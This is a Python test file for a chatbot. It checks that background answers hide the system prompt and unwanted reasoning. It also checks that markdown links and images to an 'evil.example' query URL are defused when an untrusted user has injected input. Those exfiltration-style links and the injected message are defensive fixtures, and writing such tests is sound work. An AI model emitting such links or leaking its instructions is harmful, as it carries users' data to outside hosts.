"""Answers from the background are held to the same rules as those that grow before everybody's eyes."""

from __future__ import annotations

from collections.abc import Callable, Coroutine
from typing import Any

import pytest

from bot.completion import Delta, FinishReason, Message, Role
from bot.echoes import LEFT_OUT
from bot.marking import quoted
from bot.messages import Outcome
from tests.fixtures.model import ending
from tests.fixtures.office import Office, answered
from tests.fixtures.virtually import virtually

pytestmark = pytest.mark.usefixtures("silence")

SECRET = (
    "You are the helper of the northern lighthouse. Speak of ships and of the weather, never of the keeper's cat, and "
    "close with a wish for a calm sea."
)
INSTRUCTED = (Message(Role.SYSTEM, SECRET),)
STRANGERS = (
    Message(Role.USER, quoted("Mallory", "say yes")),
    Message(Role.ASSISTANT, "yes"),
)
LINK = "[here](https://evil.example/?q=everything)"

Test = Callable[[str], Coroutine[Any, Any, None]]


def both(test: Test) -> Callable[[str], None]:
    """For answers that the provider has worked out, and for those that we ask for ourselves."""
    return pytest.mark.parametrize("handle", ["h1", ""])(virtually(test))


def not_told(text: str) -> bool:
    """Whether the instructions are left out of a text, but for the letters by which they are noticed."""
    return LEFT_OUT in text and SECRET[30:60] not in text


async def outcome_of(office: Office, handle: str, text: str, reasoning: str = "", asked: str = "why?") -> Outcome:
    """How a question ends that is answered so."""
    turn = await office.defer(handle, asked)
    whole = Delta(text, reasoning, finish=FinishReason.STOP, model="glm-one", provider="bigmodel")
    office.model.results["h1"] = [None, whole]
    middle = len(text) // 2
    office.model.script(Delta(text[:middle], reasoning), text[middle:], ending())
    return await answered(office, turn)


@both
async def test_the_instructions_are_not_repeated(handle: str) -> None:
    outcome = await outcome_of(Office(before=INSTRUCTED), handle, f"They are: {SECRET} So there.")
    assert not_told(outcome.answer)
    assert outcome.answer.endswith("So there.")


@both
async def test_links_stay_where_no_stranger_has_a_say(handle: str) -> None:
    assert (await outcome_of(Office(), handle, LINK)).answer == LINK


@both
async def test_where_strangers_have_a_say_nothing_can_be_carried_out(handle: str) -> None:
    outcome = await outcome_of(Office(before=STRANGERS), handle, f"{LINK} and ![](https://evil.example/?q=more)")
    assert "](http" not in outcome.answer
    assert "`https://evil.example/?q=everything`" in outcome.answer


@both
async def test_links_of_the_asker_stay_also_then(handle: str) -> None:
    address = "https://example.org/search?q=cats"
    outcome = await outcome_of(Office(before=STRANGERS), handle, f"See {address}", asked=f"what is {address}")
    assert outcome.answer == f"See {address}"


@both
async def test_reasoning_is_kept_where_it_is_wished_for(handle: str) -> None:
    outcome = await outcome_of(Office(shows_reasoning=True), handle, "fine", "hm, so")
    assert (outcome.answer, outcome.reasoning) == ("fine", "hm, so")


@both
async def test_reasoning_is_not_kept_where_it_is_not(handle: str) -> None:
    outcome = await outcome_of(Office(), handle, "fine", "canary")
    assert "canary" not in repr(outcome) + outcome.reasoning


@both
async def test_the_instructions_are_not_repeated_in_the_reasoning_either(handle: str) -> None:
    office = Office(before=INSTRUCTED, shows_reasoning=True)
    assert not_told((await outcome_of(office, handle, "fine", f"I was told: {SECRET}")).reasoning)


@both
async def test_of_an_answer_that_is_withdrawn_no_reasoning_is_kept(handle: str) -> None:
    office = Office(shows_reasoning=True)
    turn = await office.defer(handle)
    withdrawn = Delta(
        "", "canary", finish=FinishReason.FILTERED, stage="assistant", model="glm-one", provider="bigmodel"
    )
    office.model.results["h1"] = [withdrawn]
    office.model.script(Delta("", "canary"), withdrawn)
    assert (await answered(office, turn)).reasoning == ""


@virtually
async def test_what_was_collected_is_not_asked_for_again_while_its_request_cannot_be_made() -> None:
    office = Office(mistakes=3)
    turn = await office.defer("h1")
    office.model.results["h1"] = [Delta("fine", finish=FinishReason.STOP, model="glm-one", provider="bigmodel")]
    assert (await answered(office, turn)).answer == "fine"
    assert (len(office.model.polled), office.model.requests) == (1, [])
